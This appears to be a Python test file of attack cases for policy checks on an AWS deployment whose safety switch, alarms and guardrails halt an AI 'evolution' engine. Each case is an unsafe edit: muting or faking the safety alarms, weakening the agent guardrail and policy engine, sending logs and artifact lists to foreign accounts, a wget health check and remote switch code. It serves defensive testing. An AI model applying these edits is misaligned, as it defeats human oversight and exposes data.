"""More unsafe edits of the same kind: of what watches, of what is stored, of networks and tasks, and of the deployment itself."""

from __future__ import annotations

import json

import pulumi

from tests.policy.attacks import ACCOUNT, ARTIFACTS, ENGINE, FOREIGN, OTHER, RESUME, TOPIC, at, attack, new
from tests.policy.planned import GONE

SCORE = {"namespace": "EvolutionSystem", "metricName": "SafetyScore", "dimensions": {"Environment": "prod"}}
CONTAINERS = "containerDefinitions"

WATCHES = (
    attack(
        "a second alarm of the halt's name",
        "AWS keeps one alarm a name: the later declaration replaces the rule, and nothing halts.",
        new(
            "unsafe-again",
            "cloudwatch/compositeAlarm:CompositeAlarm",
            alarmName="evolution-unsafe-prod",
            alarmRule="FALSE",
            alarmActions=[TOPIC],
        ),
        "alarms/to-alert-topic",
        "alarms/unique-name",
    ),
    attack(
        "a second alarm of the score's name",
        "The same, one level down: the score may fall to 0.",
        new(
            "score-again",
            "cloudwatch/metricAlarm:MetricAlarm",
            **SCORE,
            name="evolution-safety-score-prod",
            comparisonOperator="LessThanThreshold",
            statistic="Average",
            threshold=0,
            period=60,
            evaluationPeriods=2,
            treatMissingData="notBreaching",
            alarmActions=[TOPIC],
        ),
        "alarms/to-alert-topic",
        "alarms/unique-name",
    ),
    attack(
        "an alarm that is over resumes",
        "Evolution goes on by itself as soon as the memory's alarm is OK; nobody has looked.",
        at("monitoring-agent-memory", "okActions", [RESUME]),
        "alarms/only-topics",
    ),
    attack(
        "silence in the maths",
        "FILL gives a good score where nobody publishes one: a monitor that is down halts nothing.",
        (
            *(at("monitoring-safety-score", name, GONE) for name in ("namespace", "metricName", "dimensions", "statistic", "period")),
            at(
                "monitoring-safety-score",
                "metricQueries",
                [
                    {"id": "score", "expression": "FILL(m1, 1)", "returnData": True},
                    {"id": "m1", "metric": {**SCORE, "period": 60, "stat": "Average"}},
                ],
            ),
        ),
        "alarms/safety-score-average",
        "approved/choices",
    ),
    attack(
        "the alarms are mute at night",
        "From ten to six the alarms act on nothing, and evolution isn't halted.",
        new(
            "nights",
            "cloudwatch/alarmMuteRule:AlarmMuteRule",
            name="nights",
            rules=[{"schedules": [{"expression": "cron(0 22 * * *)", "duration": "PT8H"}]}],
            muteTargets=[{"alarmNames": ["evolution-unsafe-prod"]}],
        ),
        "containment/known-types",
    ),
    attack(
        "the topic drops what it dislikes",
        "Data protection denies every message that holds an address or a name: the alarms' own.",
        new(
            "topic-protection",
            "sns/dataProtectionPolicy:DataProtectionPolicy",
            arn=TOPIC,
            policy=json.dumps(
                {
                    "Name": "x",
                    "Version": "2021-06-01",
                    "Statement": [
                        {
                            "DataDirection": "Inbound",
                            "Principal": ["*"],
                            "DataIdentifier": ["arn:aws:dataprotection::aws:data-identifier/Name"],
                            "Operation": {"Deny": {}},
                        }
                    ],
                }
            ),
        ),
        "containment/known-types",
    ),
    attack(
        "one message an hour",
        "The switch hears of an alarm when it is its turn.",
        at("evolution-switch-hears-topic", "deliveryPolicy", '{"throttlePolicy": {"maxReceivesPerSecond": 1}}'),
        "approved/properties",
    ),
    attack(
        "a budget of nothing",
        "The budget counts a service that nobody uses, and never speaks.",
        at("monitoring-budget", "costFilters", [{"name": "Service", "values": ["Amazon Chime"]}]),
        "governance/budget",
    ),
    attack(
        "scores out of a log",
        "Each line that the engine writes counts as a perfect score.",
        new(
            "score-of-logs",
            "cloudwatch/logMetricFilter:LogMetricFilter",
            logGroupName="/evolution/prod/engine",
            pattern="",
            metricTransformation={"namespace": "EvolutionSystem", "name": "SafetyScore", "value": "1"},
        ),
        "alarms/score-writers",
    ),
    attack(
        "a class of logs that keeps two days",
        "Flow logs are gone before anybody looks, whatever the retention says.",
        at("network-flow-logs-group", "logGroupClass", "DELIVERY"),
        "approved/properties",
    ),
    attack(
        "all logs go elsewhere",
        "Every log group of the account is read by another account.",
        new(
            "account-logs",
            "cloudwatch/logAccountPolicy:LogAccountPolicy",
            policyName="x",
            policyType="SUBSCRIPTION_FILTER_POLICY",
            policyDocument=json.dumps({"DestinationArn": FOREIGN.format("logs", "destination:x"), "FilterPattern": ""}),
        ),
        "containment/known-types",
    ),
    attack(
        "only what was counted is logged",
        "What the web ACL blocks or lets through isn't written down.",
        at("security-web-acl-logging", "loggingFilter", {"defaultBehavior": "DROP", "filters": []}),
        "agentcore/web-acl-log-form",
    ),
    attack(
        "the first rule lets all pass",
        "A body is at least 0 bytes long: no other rule is asked. Only names that are approved.",
        (
            at("security-web-acl", "rules.0.priority", 10),
            at(
                "security-web-acl",
                "rules.+",
                {
                    "name": "Small",
                    "priority": 0,
                    "action": {"allow": {}},
                    "statement": {
                        "sizeConstraintStatement": {
                            "comparisonOperator": "GE",
                            "size": 0,
                            "fieldToMatch": {"body": {"oversizeHandling": "CONTINUE"}},
                            "textTransformations": [{"priority": 0, "type": "NONE"}],
                        }
                    },
                    "visibilityConfig": {"metricName": "Small", "sampledRequestsEnabled": True, "cloudwatchMetricsEnabled": True},
                },
            ),
        ),
        "agentcore/web-acl-no-bypass",
    ),
    attack(
        "the tag that the switch finds its target by",
        "The switch may only touch targets of this environment: with another tag, it may not stop the engine.",
        (at("compute-engine-scaling", "tags", {"Environment": "dev"}), at("compute-engine-scaling", "tagsAll.Environment", "dev")),
        "alarms/switch-may-halt",
        "governance/tags",
    ),
    attack(
        "a second scheduled action",
        "The engine grows to a thousand tasks at any hour that somebody likes.",
        new(
            "growth",
            "appautoscaling/scheduledAction:ScheduledAction",
            name="growth",
            serviceNamespace="ecs",
            resourceId=ENGINE,
            scalableDimension="ecs:service:DesiredCount",
            schedule="cron(0 2 * * ? *)",
            scalableTargetAction={"minCapacity": 900, "maxCapacity": 1000},
        ),
        "alarms/running-tasks",
        "environment/scale-bounds",
    ),
    attack(
        "the guardrail's topic means nothing",
        "The topic is still there by name, and denies what nobody asks.",
        at("agentcore-guardrail", "topicPolicyConfig.topicsConfigs.0.definition", "Questions about gardening in the Middle Ages."),
        "approved/guardrail",
    ),
    attack(
        "policies that only log",
        "The gateway writes down what its policy engine would have refused.",
        at(
            "agentcore-gateway",
            "policyEngineConfiguration",
            {"arn": FOREIGN.format("bedrock-agentcore", "policy-engine/x"), "mode": "LOG_ONLY"},
        ),
        "agentcore/policy-engine",
    ),
    attack(
        "an old version of the agents",
        "The gateway asks what was deployed first, with the guardrail and the limits of then.",
        at("agentcore-runtime-endpoint", "agentRuntimeVersion", "1"),
        "agentcore/runtime-endpoint",
    ),
)
"""What watches and guards."""

REST = (
    attack(
        "names are looked up elsewhere",
        "The engine finds AWS's services where somebody else's name server says.",
        at("compute-engine-task", f"{CONTAINERS}.0.dnsServers", ["203.0.113.53"]),
        "approved/properties",
    ),
    attack(
        "another account's secret",
        "What the monitor is told comes from an account that nobody here reviews.",
        at(
            "compute-monitor-task",
            f"{CONTAINERS}.0.secrets",
            [{"name": "SAFETY_SETTINGS", "valueFrom": FOREIGN.format("secretsmanager", "secret:x-abcdef")}],
        ),
        "environment/reviewed-sources",
    ),
    attack(
        "a container beside the engine",
        "A second program has the engine's role and network.",
        at(
            "compute-engine-task",
            f"{CONTAINERS}.1",
            {
                "name": "helper",
                "image": f"public.ecr.aws/docker/library/busybox@sha256:{'0' * 64}",
                "essential": False,
                "user": "10001:10001",
                "privileged": False,
                "readonlyRootFilesystem": True,
            },
        ),
        "workload/command",
        "workload/known-container",
        "workload/log-delivery",
        "workload/log-group",
        "workload/logged",
        "workload/no-capabilities",
        "workload/own-repository",
    ),
    attack(
        "a health check that sends",
        "Every half minute a shell sends what the monitor reads.",
        at("compute-monitor-task", f"{CONTAINERS}.0.healthCheck", {"command": ["CMD-SHELL", "wget -q -O- https://example.com || true"]}),
        "workload/command",
    ),
    attack(
        "only the last image is kept",
        "The image that runs is deleted with the next push: no task starts any more, the monitor's neither.",
        at(
            "compute-repository-lifecycle",
            "policy",
            json.dumps(
                {
                    "rules": [
                        {
                            "rulePriority": 1,
                            "selection": {"tagStatus": "any", "countType": "imageCountMoreThan", "countNumber": 1},
                            "action": {"type": "expire"},
                        }
                    ]
                }
            ),
        ),
        "workload/images-kept",
    ),
    attack(
        "the key in another region",
        "A replica has a policy of its own.",
        new("replica", "kms/replicaKey:ReplicaKey", primaryKeyArn=f"arn:aws:kms:us-east-1:{ACCOUNT}:key/mrk-0123", policy="{}"),
        "identity/document",
    ),
    attack(
        "a list of all artifacts for another account",
        "Names, sizes and dates leave each day.",
        new(
            "inventory",
            "s3/inventory:Inventory",
            bucket=ARTIFACTS,
            name="all",
            includedObjectVersions="All",
            schedule={"frequency": "Daily"},
            destination={"bucket": {"bucketArn": "arn:aws:s3:::elsewhere", "accountId": OTHER, "format": "CSV"}},
        ),
        "containment/known-types",
    ),
    attack(
        "finished evolutions are gone in a day",
        "A rule beside the approved ones deletes what the archiver keeps.",
        at(
            "data-artifacts-lifecycle",
            "rules.+",
            {"id": "expire-more", "status": "Enabled", "filter": {"prefix": "evolutions/"}, "expiration": {"days": 1}},
        ),
        "approved/floors",
    ),
    attack(
        "other name servers for the network",
        "All that runs in the VPC finds AWS's services where somebody else's name server says.",
        new("dhcp", "ec2/vpcDhcpOptions:VpcDhcpOptions", domainNameServers=["203.0.113.53"]),
        "containment/known-types",
    ),
    attack(
        "the network for other accounts",
        "Another account's network reaches what stands behind the endpoint service.",
        new("service", "ec2/vpcEndpointService:VpcEndpointService", acceptanceRequired=False, allowedPrincipals=["*"]),
        "containment/known-types",
    ),
    attack(
        "all traffic through one machine",
        "The route leads to an interface that somebody runs, not to the NAT gateway.",
        (
            at("network-private-0-to-nat", "natGatewayId", GONE),
            at("network-private-0-to-nat", "networkInterfaceId", "eni-0123456789abcdef0"),
        ),
        "approved/properties",
    ),
    attack(
        "a group of somebody else's network",
        "The engine is open as far as a group allows that isn't of this program.",
        at(
            "compute-engine-service",
            "networkConfiguration",
            {"subnets": ["subnet-0123456789abcdef0"], "securityGroups": ["sg-0123456789abcdef0"], "assignPublicIp": False},
        ),
        "network/own-network",
        "network/own-parts",
    ),
    attack(
        "a cluster of somebody else's",
        "The monitor runs, or doesn't, where another program says.",
        at("compute-monitor-service", "cluster", f"arn:aws:ecs:us-east-1:{ACCOUNT}:cluster/other"),
        "network/own-parts",
    ),
    attack(
        "routes of somebody else",
        "A private subnet's traffic goes where another program sends it.",
        at("network-private-1-association", "routeTableId", "rtb-0123456789abcdef0"),
        "network/own-parts",
    ),
    attack(
        "evolutions of another account",
        "The archiver keeps what another account's stream says was finished.",
        at("evolution-archiver-reads-stream", "eventSourceArn", FOREIGN.format("dynamodb", "table/x/stream/1")),
        "network/own-parts",
    ),
    attack(
        "a provider with another role",
        "What is declared by it is made in another account.",
        new("elsewhere", "pulumi:providers:aws", region="us-east-1", assumeRoles=f'[{{"roleArn": "arn:aws:iam::{OTHER}:role/Admin"}}]'),
        "approved/properties",
    ),
    attack(
        "a provider of another region",
        "What is declared by it stands where no quota, endpoint or alarm of this stack is.",
        new("far", "pulumi:providers:aws", region="ap-southeast-1", version="7.0.0"),
        "governance/region",
    ),
    attack(
        "the switch's code from the web",
        "The switch runs what that address gives on the day of the deployment.",
        at("evolution-safety-switch", "code", pulumi.RemoteArchive("https://example.com/switch.zip")),
        "approved/properties",
    ),
    attack(
        "the subscription goes before it comes",
        "While it is replaced, or when that fails, no alarm reaches the switch.",
        at("evolution-switch-hears-topic", "deleteBeforeReplace", True),
        "approved/replaced",
    ),
)
"""What is stored, what runs, where it stands, and how it is deployed."""
